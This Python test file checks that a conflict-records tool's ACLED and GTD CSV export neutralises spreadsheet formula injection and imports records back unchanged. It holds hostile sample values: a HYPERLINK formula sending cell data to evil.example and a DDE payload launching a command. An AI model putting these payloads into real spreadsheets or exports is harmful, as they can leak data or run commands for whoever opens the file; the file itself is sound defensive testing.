"""CSV injection: a record whose text starts as a spreadsheet formula
(=, +, -, @) is exported as text a spreadsheet will not run, a number
stays a number, and the export imports back to the same record.
"""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from dossier.load.evidence import read_record
from hostile.conftest import dossier

RECORD = Path("evidence/ALD-2026-001.md")
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Details")'
NOTES = "@SUM(1+1)*cmd|' /C calc'!A0"


def hostile(root: Path) -> None:
    """ALD-2026-001 with formulas in its actor, district, place and notes."""
    path = root / RECORD
    text = path.read_text(encoding="utf-8")
    quoted_notes = NOTES.replace("'", "''")
    for old, new in [
        ("actor1: Unidentified armed group from the Veskarian Federation",
         f"actor1: '{HYPERLINK}'"),
        ("admin2: Kellbrook district", "admin2: '+1'"),
        ("  place: Kellbrook\n", "  place: '-2+3'\n"),
        ("classification: public\n", f"classification: public\nnotes: '{quoted_notes}'\n"),
    ]:  # fmt: skip
        assert old in text
        text = text.replace(old, new, 1)
    path.write_text(text, encoding="utf-8")


def rows(path: Path) -> dict[str, dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as f:
        return {r.get("event_id_cnty") or r["eventid"]: r for r in csv.DictReader(f)}


@pytest.mark.parametrize(
    ("standard", "columns"),
    [
        ("acled", ("actor1", "admin2", "location", "notes")),
        ("gtd", ("gname", "admin2", "city", "summary")),
    ],
)
def test_formulas_are_exported_as_text_and_import_back(
    base: Path, tmp_path: Path, standard: str, columns: tuple[str, str, str, str]
) -> None:
    hostile(base)
    out = tmp_path / f"{standard}.csv"
    run = dossier("export", standard, base, "--out", out)
    assert run.code == 0, run.text
    row = rows(out)["ALD-2026-001"]
    actor, district, place, notes = (row[c] for c in columns)
    assert (actor, district, place) == ("'" + HYPERLINK, "'+1", "'-2+3")
    assert notes == "'" + NOTES
    assert (row["latitude"], row["longitude"]) == ("-37.62", "-18.95")  # numbers, unquoted
    for cell in (c for r in rows(out).values() for c in r.values()):
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
        assert not cell.startswith("-") or cell.replace(".", "").lstrip("-").isdigit(), cell

    back = tmp_path / "back"
    back.mkdir()
    run = dossier("import", standard, out, "--into", back, "--prefix", "")
    assert run.code == 0, run.text
    original = read_record(base / RECORD, "en").incident
    copy = read_record(back / RECORD, "en").incident
    assert copy.actor1 == original.actor1 == HYPERLINK
    assert copy.notes == original.notes == NOTES
    assert copy.location.admin2 == original.location.admin2 == "+1"
    assert copy.location.place == original.location.place == "-2+3"
    assert (copy.location.latitude, copy.location.longitude) == (-37.62, -18.95)
